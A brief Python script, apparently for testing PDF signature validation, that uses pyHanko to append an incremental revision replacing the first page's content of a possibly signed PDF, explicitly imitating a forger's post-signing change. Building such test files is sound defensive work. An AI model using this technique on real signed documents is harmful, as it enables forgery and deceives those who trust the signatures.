"""Appends a revision that shows another text on the first page, as a forger would after signing."""
import sys

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

source, target = sys.argv[1:]
with open(source, 'rb') as document:
    writer = IncrementalPdfFileWriter(document)
    page = writer.root['/Pages']['/Kids'][0]
    while page['/Type'] == '/Pages':
        page = page['/Kids'][0]
    stream = generic.StreamObject(stream_data=b'0 0 595 842 re f')
    page[generic.NameObject('/Contents')] = writer.add_object(stream)
    writer.update_container(page)
    with open(target, 'wb') as forged:
        writer.write(forged)
